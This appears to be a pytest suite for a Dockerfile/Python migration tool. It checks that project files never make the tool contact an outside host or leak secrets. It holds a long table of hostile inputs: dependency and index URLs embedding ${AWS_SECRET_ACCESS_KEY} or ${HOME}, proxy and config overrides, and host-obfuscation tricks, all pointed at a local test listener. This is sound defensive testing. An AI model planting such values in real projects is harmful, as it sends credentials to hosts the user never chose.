"""No word of a project makes pydock ask a host, and no variable of this machine leaves it."""

from __future__ import annotations

import json
import os
import socket
import subprocess
from collections.abc import Iterator, Mapping
from pathlib import Path

import pytest

from pydock.hosts import PUBLIC
from pydock.resolve import Resolver
from tests.command_line import Runner
from tests.hostile.listener import Listener, listening
from tests.package_index import Distribution, Index, serving

SECRET = "wJalrXUtnFEMIbPxRfiCYEXAMPLEKEY77"
BASE = "FROM python:3.11.7-slim-bookworm\nWORKDIR /app\n"
LIST = f"{BASE}COPY . .\nRUN pip install -r requirements.txt\nCMD python app.py\n"


def _list(text: str, **files: str) -> dict[str, str]:
    return {"Dockerfile": LIST, "requirements.txt": f"{text}\nshop\n", **files}


PROJECT = '[project]\nname = "a"\nversion = "1"\ndependencies = ["shop"]\n'


def _file(*lines: str, **files: str) -> dict[str, str]:
    return {"Dockerfile": BASE + "".join(f"{line}\n" for line in lines), "requirements.txt": "shop\n", **files}


def _local(name: str, text: str) -> dict[str, str]:
    return {"Dockerfile": f"{BASE}COPY . .\nRUN pip install .\nCMD python app.py\n", name: text}


INSTALL = "RUN pip install -r requirements.txt"
# HOST stands for the listener's address, PORT for its port.
WAYS: Mapping[str, dict[str, str]] = {
    "an address": _list("foo @ http://HOST/x-1.0-py3-none-any.whl"),
    "an address without a name": _list("http://HOST/x-1.0-py3-none-any.whl"),
    "an address with a secret": _list("foo @ http://HOST/${AWS_SECRET_ACCESS_KEY}/x-1.0-py3-none-any.whl"),
    "a bare address with a secret": _list("http://HOST/${AWS_SECRET_ACCESS_KEY}/x-1.0-py3-none-any.whl"),
    "an address with the home folder": _list("foo @ http://HOST/${HOME}/x-1.0-py3-none-any.whl"),
    "a repository": _list("foo @ git+http://HOST/x.git"),
    "a repository without a name": _list("git+http://HOST/x.git#egg=foo"),
    "a repository with a secret": _list("foo @ git+http://HOST/${AWS_SECRET_ACCESS_KEY}.git@main"),
    "a repository by git's own protocol": _list("git+git://HOST/x.git#egg=foo"),
    "a repository by ssh": _list("foo @ git+ssh://git@HOST/x.git"),
    "a working copy": _list("-e git+http://HOST/x.git#egg=foo"),
    "a host before the at sign": _list(f"foo @ http://{PUBLIC.host}@HOST/x-1.0-py3-none-any.whl"),
    "a host behind a backslash": _list(f"foo @ http://HOST\\@{PUBLIC.host}/x-1.0-py3-none-any.whl"),
    "two backslashes": _list("foo @ http:\\\\HOST/x-1.0-py3-none-any.whl"),
    "an address without slashes": _list("foo @ http:HOST/x-1.0-py3-none-any.whl"),
    "a number for a host": _list("foo @ http://2130706433:PORT/x-1.0-py3-none-any.whl"),
    "a short number for a host": _list("foo @ http://127.1:PORT/x-1.0-py3-none-any.whl"),
    "a name of this machine": _list("foo @ http://localhost:PORT/x-1.0-py3-none-any.whl"),
    "an index": _list("--index-url http://HOST/simple"),
    "an index with a secret": _list("--index-url http://HOST/${AWS_SECRET_ACCESS_KEY}/simple"),
    "another index": _list("--extra-index-url http://HOST/simple"),
    "a page of links": _list("--find-links http://HOST/links"),
    "an included list": _list("-r more.txt", **{"more.txt": "foo @ http://HOST/x-1.0-py3-none-any.whl\n"}),
    "a constraint": _list("-c bound.txt", **{"bound.txt": "shop @ http://HOST/x-1.0-py3-none-any.whl\n"}),
    "a constraint with a secret": _list(
        "-c bound.txt", **{"bound.txt": "shop @ http://HOST/${AWS_SECRET_ACCESS_KEY}/shop-1.0-py3-none-any.whl\n"}
    ),
    "a constraint of the install": _file(
        "COPY . .", f"{INSTALL} -c bound.txt", **{"bound.txt": "shop @ http://HOST/x-1.0-py3-none-any.whl\n"}
    ),
    "an option of the install": _file("COPY . .", f"{INSTALL} -i http://HOST/simple"),
    "an ENV of the index": _file("ENV PIP_INDEX_URL=http://HOST/simple", "COPY . .", INSTALL),
    "an ARG of the index": _file("ARG PIP_EXTRA_INDEX_URL=http://HOST/simple", "COPY . .", INSTALL),
    "an ENV of a page of links": _file("ENV PIP_FIND_LINKS=http://HOST/links", "COPY . .", INSTALL),
    "a variable of one install": _file("COPY . .", INSTALL.replace("pip", "PIP_INDEX_URL=http://HOST/simple pip")),
    "an ENV of uv": _file(
        "RUN pip install uv", "ENV UV_INDEX_URL=http://HOST/simple", "COPY . .",
        "RUN uv pip install --system -r requirements.txt",
    ),
    "pip config set": _file("RUN pip config set global.index-url http://HOST/simple", "COPY . .", INSTALL),
    "a pip.conf": _file(
        "COPY pip.conf /etc/pip.conf", "COPY . .", INSTALL, **{"pip.conf": "[global]\nindex-url = http://HOST/simple\n"}
    ),
    "a pyproject.toml": _local(
        "pyproject.toml",
        '[project]\nname = "a"\nversion = "1"\ndependencies = ["shop", "foo @ http://HOST/x-1.0-py3-none-any.whl"]\n',
    ),
    "a pyproject.toml with a secret": _local(
        "pyproject.toml",
        '[project]\nname = "a"\nversion = "1"\n'
        'dependencies = ["shop", "foo @ http://HOST/${AWS_SECRET_ACCESS_KEY}/x-1.0-py3-none-any.whl"]\n',
    ),
    "an index of uv in pyproject.toml": _local(
        "pyproject.toml",
        '[project]\nname = "a"\nversion = "1"\ndependencies = ["shop"]\n'
        '[[tool.uv.index]]\nurl = "http://HOST/simple"\ndefault = true\n',
    ),
    "a source of Poetry": _local(
        "pyproject.toml",
        '[tool.poetry]\nname = "a"\nversion = "1"\n[tool.poetry.dependencies]\nshop = "*"\n'
        'foo = {url = "http://HOST/x-1.0-py3-none-any.whl"}\n[[tool.poetry.source]]\nname = "x"\nurl = "http://HOST/simple"\n',
    ),
    "a setup.cfg": _local(
        "setup.cfg",
        "[metadata]\nname = a\n[options]\ninstall_requires =\n  shop\n  foo @ http://HOST/${HOME}/x-1.0-py3-none-any.whl\n",
    ),
    "a uv.toml of the project": _list("shop", **{"uv.toml": 'index-url = "http://HOST/simple"\n'}),
    "a list that lies elsewhere": _list("-r http://HOST/more.txt"),
    "a constraint that lies elsewhere": _list("-c http://HOST/bound.txt"),
    "a list of the install that lies elsewhere": _file("RUN pip install -r http://HOST/requirements.txt"),
    "a package of the install": _file("COPY . .", f"{INSTALL} http://HOST/x-1.0-py3-none-any.whl"),
    "a repository of the install": _file("COPY . .", f"{INSTALL} git+http://HOST/x.git#egg=foo"),
    "a repository with a folder in it": _list("foo @ git+http://HOST/x.git@main#subdirectory=a"),
    "a repository of Mercurial": _list("foo @ hg+http://HOST/x"),
    "a repository of Bazaar": _list("bzr+http://HOST/x#egg=foo"),
    "a repository of Subversion": _list("svn+http://HOST/x#egg=foo"),
    "a repository by git's short form": _list("git+git@HOST:x.git#egg=foo"),
    "a proxy of the list": _list("--proxy http://HOST"),
    "a proxy of the install": _file("COPY . .", f"{INSTALL} --proxy http://HOST"),
    "an ENV of a proxy": _file("ENV HTTP_PROXY=http://HOST ALL_PROXY=http://HOST", "COPY . .", INSTALL),
    "an ENV of pip's own proxy": _file("ENV PIP_PROXY=http://HOST", "COPY . .", INSTALL),
    "an ENV of a configuration": _file(
        "COPY . .", "ENV PIP_CONFIG_FILE=/app/own.conf", INSTALL, **{"own.conf": "[global]\nindex-url = http://HOST/simple\n"}
    ),
    "a pip.conf in a home": _file(
        "COPY pip.conf /root/.config/pip/pip.conf", "COPY . .", INSTALL, **{"pip.conf": "[install]\nextra-index-url = http://HOST/simple\n"}
    ),
    "a pip.conf that a command writes": _file(
        "RUN printf '[global]\\nindex-url = http://HOST/simple\\n' > /etc/pip.conf", "COPY . .", INSTALL
    ),
    "a pip.conf of the install's own": _file(
        "COPY . .", f"{INSTALL} --config-settings a=b --trusted-host HOST", **{"pip.conf": "[global]\nfind-links = http://HOST/\n"}
    ),
    "an index of uv by its new name": _file(
        "RUN pip install uv", "ENV UV_DEFAULT_INDEX=http://HOST/simple", "COPY . .",
        "RUN uv pip install --system -r requirements.txt",
    ),
    "more indexes of uv": _file(
        "RUN pip install uv", "COPY . .", "RUN uv pip install --system --index x=http://HOST -r requirements.txt",
    ),
    "an index behind a name of the shell": _file("ARG H=http://HOST", "COPY . .", f"{INSTALL} -i $H/simple"),
    "an index in capitals": _list("--index-url HTTP://HOST/simple"),
    "an index with blanks around it": _list("--index-url   http://HOST/simple   "),
    "an index with an equals sign": _list("--extra-index-url=http://HOST/simple"),
    "an index over two lines": _list("--extra-index-url \\\n  http://HOST/simple"),
    "a short option": _list("-i http://HOST/simple"),
    "a short page of links": _list("-f http://HOST/links"),
    "a page of links in a file": _list("--find-links ./links.html", **{"links.html": '<a href="http://HOST/shop-9-py3-none-any.whl">x</a>'}),
    "a page of links in a folder": _list("--find-links links", **{"links.html": '<a href="http://HOST/shop-9-py3-none-any.whl">x</a>'}),
    "an address in another encoding": _list("foo @ http://HOST/%2e%2e/x-1.0-py3-none-any.whl"),
    "an address without a path": _list("foo @ http://HOST"),
    "an address with a question": _list("foo @ http://HOST?${AWS_SECRET_ACCESS_KEY}"),
    "an address with a hash": _list("foo @ http://HOST/x-1.0-py3-none-any.whl#sha256=00"),
    "an address behind a marker": _list("foo @ http://HOST/x-1.0-py3-none-any.whl ; python_version > '3'"),
    "a file of another machine": _list("foo @ file://HOST/x-1.0-py3-none-any.whl"),
    "an optional dependency": _local(
        "pyproject.toml",
        PROJECT + '[project.optional-dependencies]\n'
        'all = ["foo @ http://HOST/x-1.0-py3-none-any.whl"]\n',
    ),
    "what a build needs": _local(
        "pyproject.toml",
        '[build-system]\nrequires = ["foo @ http://HOST/x-1.0-py3-none-any.whl"]\nbuild-backend = "foo"\n'
        '[project]\nname = "a"\nversion = "1"\ndependencies = ["shop"]\n',
    ),
    "a source of uv": _local(
        "pyproject.toml",
        PROJECT + '[tool.uv.sources]\nshop = {url = "http://HOST/shop-9-py3-none-any.whl"}\n',
    ),
    "a repository of uv": _local(
        "pyproject.toml",
        PROJECT + '[tool.uv.sources]\nshop = {git = "http://HOST/shop.git"}\n',
    ),
    "a constraint of uv": _local(
        "pyproject.toml",
        PROJECT + '[tool.uv]\nconstraint-dependencies = ["shop @ http://HOST/shop-9-py3-none-any.whl"]\n'
        'find-links = ["http://HOST"]\n',
    ),
    "a source of pdm": _local(
        "pyproject.toml",
        PROJECT + '[[tool.pdm.source]]\nurl = "http://HOST/simple"\nname = "pypi"\n',
    ),
    "a Pipfile": _file(
        "RUN pip install pipenv", "COPY . .", "RUN pipenv install --system",
        Pipfile='[[source]]\nurl = "http://HOST/simple"\nname = "x"\n[packages]\nshop = "*"\nfoo = {file = "http://HOST/x.whl"}\n',
    ),
    "links of a setup.cfg": _local(
        "setup.cfg",
        "[metadata]\nname = a\n[options]\ninstall_requires = shop\n"
        "dependency_links = http://HOST/x\n[easy_install]\nindex_url = http://HOST\n",
    ),
    "a setup.py": _local("setup.py", "from setuptools import setup\nsetup(name='a', install_requires=['shop', 'foo @ http://HOST/x.whl'])\n"),
    "a lock of before": _list("shop", **{"requirements.lock.txt": "shop @ http://HOST/shop-9-py3-none-any.whl\n"}),
    "a pylock.toml of before": _list(
        "shop",
        **{"pylock.toml": 'lock-version = "1.0"\n[[packages]]\nname = "shop"\nindex = "http://HOST/simple"\n'},
    ),
    "an image of a registry": {"Dockerfile": LIST.replace("python:", "HOST/python:"), "requirements.txt": "shop\n"},
    "a stage of a registry": _file("COPY --from=HOST/x/y /a /b", "COPY . .", INSTALL),
    "a front end": {"Dockerfile": f"# syntax=HOST/x/y\n{LIST}", "requirements.txt": "shop\n"},
    "a file that is added": _file("ADD http://HOST/${AWS_SECRET_ACCESS_KEY} /x", "COPY . .", INSTALL),
    "compose": _list("shop", **{"compose.yaml": "include: [http://HOST/c.yaml]\nservices:\n  a:\n    build: http://HOST/x.git\n"}),
    "git's submodules": _list("-e ./sub", **{".gitmodules": '[submodule "sub"]\n  path = sub\n  url = http://HOST/x.git\n'}),
    "a netrc": _list("--index-url http://HOST/simple", **{".netrc": "machine HOST login a password b\n"}),
}  # fmt: skip


@pytest.fixture
def listener() -> Iterator[Listener]:
    with listening() as started:
        yield started


@pytest.fixture(scope="module")
def index() -> Iterator[Index]:
    """The index of the person's own settings."""
    with serving(Distribution("shop", "1.0")) as started:
        yield started


@pytest.fixture(autouse=True)
def machine(index: Index, monkeypatch: pytest.MonkeyPatch, tmp_path_factory: pytest.TempPathFactory) -> None:
    for name in [name for name in os.environ if name.startswith(("UV_", "PIP_", "PYDOCK_"))]:
        monkeypatch.delenv(name)
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", SECRET)
    monkeypatch.setenv("UV_CACHE_DIR", str(tmp_path_factory.getbasetemp() / "uv"))
    monkeypatch.setenv("UV_DEFAULT_INDEX", index.url)
    monkeypatch.setattr("pydock.resolve.THIS_RUN", Resolver())


def _written(folder: Path, files: Mapping[str, str], listener: Listener) -> None:
    folder.mkdir()
    for name, text in files.items():
        (folder / name).write_text(text.replace("HOST", listener.address).replace("PORT", str(listener.port)))


@pytest.mark.parametrize("files", WAYS.values(), ids=WAYS)
def test_a_host_of_the_project_hears_not_a_byte(
    files: Mapping[str, str], listener: Listener, folder: Path, run: Runner
) -> None:
    _written(folder / "svc", files, listener)
    done = run("fix", "--diff", "--unsafe-fixes", "svc")
    assert done.code in {0, 1}, done.err
    assert not listener.heard
    assert SECRET not in done.out + done.err


def test_a_whole_migration_asks_none_of_them_and_prints_no_secret(
    listener: Listener, folder: Path, run: Runner
) -> None:
    for at, files in enumerate([*WAYS.values()][::3]):
        _written(folder / f"service{at}", files, listener)
    done = run("migrate", ".", "--out", "out")
    assert done.code == 1, done.err
    assert not listener.heard
    written = "".join(
        path.read_text() for path in (folder / "out").rglob("*") if path.suffix in {".jsonl", ".md", ".html"}
    )
    assert "service0" in written
    assert SECRET not in written + done.out + done.err


@pytest.mark.parametrize("command", ["check svc", "facts svc", "explain PYD302", "rules", "data", "schema", "codemods"])
def test_what_asks_nobody_opens_no_connection(
    command: str, listener: Listener, folder: Path, run: Runner, monkeypatch: pytest.MonkeyPatch
) -> None:
    _written(folder / "svc", WAYS["an index"], listener)

    def refused(*_: object, **__: object) -> None:
        raise AssertionError("nobody is asked, and nothing is started")

    monkeypatch.setattr(socket, "socket", refused)
    monkeypatch.setattr(socket, "getaddrinfo", refused)
    monkeypatch.setattr(subprocess, "Popen", refused)
    done = run(*command.split())
    monkeypatch.undo()
    assert done.code in {0, 1}, done.err
    assert done.out


@pytest.mark.parametrize("variable", ["", "PYDOCK_ALLOW_HOSTS"], ids=["on the command line", "in the environment"])
def test_what_a_person_allows_is_asked_and_said_once_before(
    variable: str, listener: Listener, folder: Path, run: Runner, monkeypatch: pytest.MonkeyPatch
) -> None:
    _written(folder / "svc", _list("--index-url http://HOST/simple"), listener)
    refused = run("fix", "--diff", "svc")
    assert f"only the project names {listener.address}" in refused.err
    assert f"--allow-hosts {listener.address}" in refused.err
    if variable:
        monkeypatch.setenv(variable, listener.address)
    run("fix", "--diff", "svc", *(() if variable else ("--allow-hosts", listener.address)))
    assert listener.heard
    assert listener.heard[0].startswith(b"GET /simple/shop/")


def test_the_index_of_the_machine_is_named_before_it_is_asked(
    index: Index, listener: Listener, folder: Path, run: Runner
) -> None:
    for name in ("one", "two"):
        _written(folder / name, _list("shop"), listener)
    done = run("fix", "--diff", ".")
    assert done.err.count(f"note: {index.url.split('/')[2]} is asked about packages\n") == 1
    assert "+shop==1.0" in done.out


@pytest.mark.parametrize("name", ["pydock.toml", "pyproject.toml"])
def test_a_project_cannot_allow_itself(name: str, listener: Listener, folder: Path, run: Runner) -> None:
    head = "" if name == "pydock.toml" else "[tool.pydock]\n"
    said = {name: f'{head}allow-hosts = ["{listener.address}"]\n'}
    _written(folder / "svc", _list("--index-url http://HOST/simple", **said), listener)
    done = run("fix", "--diff", "svc")
    assert done.code == 2
    assert "allow-hosts is not for a project to say" in done.err
    assert not listener.heard


def test_a_file_of_the_person_allows(
    listener: Listener, folder: Path, run: Runner, monkeypatch: pytest.MonkeyPatch
) -> None:
    (folder / "config/pydock").mkdir(parents=True)
    (folder / "config/pydock/pydock.toml").write_text(f'allow-hosts = ["{listener.address}"]\n')
    monkeypatch.setenv("XDG_CONFIG_HOME", str(folder / "config"))
    _written(folder / "svc", _list("--index-url http://HOST/simple"), listener)
    run("fix", "--diff", "svc")
    assert listener.heard


def test_a_page_of_results_is_asked_again_once_a_host_is_allowed(listener: Listener, folder: Path, run: Runner) -> None:
    _written(folder / "svc", _list("--index-url http://HOST/simple"), listener)
    run("migrate", "svc", "--out", "out")
    (row,) = map(json.loads, (folder / "out/results.jsonl").read_text().splitlines())
    assert f"--allow-hosts {listener.address}" in json.dumps(row)
    assert not listener.heard
    run("migrate", "svc", "--out", "out", "--allow-hosts", listener.address)
    assert listener.heard
